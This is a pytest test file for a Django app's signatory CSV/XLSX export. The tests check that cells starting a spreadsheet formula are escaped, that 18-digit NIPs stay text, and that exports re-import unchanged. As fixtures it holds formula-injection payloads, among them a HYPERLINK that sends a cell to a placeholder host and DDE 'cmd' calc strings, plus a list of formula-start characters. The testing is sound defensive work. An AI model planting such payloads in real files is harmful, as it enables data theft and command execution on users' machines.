"""The CSV export opens in a spreadsheet as text: no formula runs, a NIP keeps 18 digits,
and the file imports back into the next event as it was."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from pledges.rendering.spreadsheets import write_table
from pledges.services.imports import read_import_file
from tests.conftest import VALID_NIP, make_event, make_signatory

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\uff1d"]


@pytest.fixture
def logged_in(client, staff):
    client.force_login(staff)
    return client


def export_rows(client, event, fmt="csv"):
    response = client.get(reverse("staff:export", args=[event.pk, fmt]))
    assert response.status_code == 200
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(response.content)).active
        return [[cell.value for cell in row] for row in sheet.iter_rows()]
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_that_would_start_a_formula_is_exported_behind_an_apostrophe(
    logged_in, open_event, start
):
    # Stored as such before names were checked, or by the admin of an older version.
    hostile = f'{start}HYPERLINK("http://contoh.invalid/?d="&A2,"Klik")'
    make_signatory(
        open_event, hostile, "", position=f"{start}1+1", agency=f"{start}cmd|' /C calc'!A0"
    )
    rows = export_rows(logged_in, open_event)
    row = rows[1]
    assert row[0] == "'" + hostile
    assert row[2] == f"'{start}1+1"
    assert row[4] == f"'{start}cmd|' /C calc'!A0"


def test_no_exported_cell_starts_a_formula_but_the_nip_as_quoted_digits(logged_in, open_event):
    make_signatory(open_event, "@SUM(1+1)*cmd|' /C calc'!A0", VALID_NIP, agency="-2+3")
    make_signatory(open_event, "'=Apostrof di depan", "199007232015032004", agency="'+'")
    for row in export_rows(logged_in, open_event):
        for cell in row:
            if cell[:1] in FORMULA_STARTS:
                assert cell in {f'="{VALID_NIP}"', '="199007232015032004"'}


def test_nip_is_written_so_a_spreadsheet_keeps_all_eighteen_digits(logged_in, signatory):
    header, row = export_rows(logged_in, signatory.event)
    assert header[1] == "NIP"
    # A formula whose value is the text of the digits: Excel shows 198005122005011002,
    # not 1,98005E+17.
    assert row[1] == '="198005122005011002"'


def test_xlsx_export_keeps_names_and_nips_as_plain_text_cells(logged_in, open_event):
    make_signatory(open_event, '=HYPERLINK("http://contoh.invalid")', VALID_NIP)
    rows = export_rows(logged_in, open_event, "xlsx")
    assert rows[1][:2] == ['=HYPERLINK("http://contoh.invalid")', VALID_NIP]


def test_a_csv_export_imports_into_the_next_event_with_the_same_names_and_nips(
    logged_in, open_event, unit, pasuruan
):
    people = {
        '=HYPERLINK("http://contoh.invalid")': VALID_NIP,
        "+62 Budi Santoso": "199007232015032004",
        "-Santoso": "198604112008012002",
        "@Dewi Lestari": "",
        "'=Apostrof di depan": "197203152000032001",
        "José Ramírez": "199112312019032001",
    }
    for name, nip in people.items():
        make_signatory(open_event, name, nip, category="non_asn" if not nip else "asn_lainnya")
    exported = logged_in.get(reverse("staff:export", args=[open_event.pk, "csv"]))
    following = make_event(unit, pasuruan, open_event.template, title="Kegiatan berikutnya")
    upload = SimpleUploadedFile("ekspor.csv", exported.content, "text/csv")
    page = logged_in.post(reverse("staff:import_upload", args=[following.pk]), {"file": upload})
    assert f"{len(people)} sah" in page.content.decode()
    token = logged_in.session[f"signatory-import-{following.pk}"]["token"]
    response = logged_in.post(
        reverse("staff:import_commit", args=[following.pk]), {"token": token, "mode": "all"}
    )
    assert response.status_code == 302
    copied = dict(following.signatories.values_list("full_name", "nip"))
    assert copied == people


cell_text = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))
COLUMNS = ["nama_lengkap", "nip", "jabatan", "kategori", "instansi", "wilayah"]


@given(st.lists(st.tuples(cell_text, cell_text, cell_text), min_size=1, max_size=5))
def test_any_text_written_to_csv_reads_back_unchanged_and_never_as_a_formula(rows):
    table = [[name, "", position, "x", agency, ""] for name, position, agency in rows]
    _name, _mimetype, data = write_table("uji", "csv", COLUMNS, table)
    for written in list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1:]:
        for cell in written:
            starts_formula = cell[:1] in FORMULA_STARTS
            assert not starts_formula or (cell.startswith('="') and cell[2:-1].isdigit())
    read = [row["values"] for row in read_import_file("uji.csv", data)]
    # The import trims each cell, as it does for any file.
    assert read == [
        {column: cell.strip() for column, cell in zip(COLUMNS, row, strict=True)} for row in table
    ]
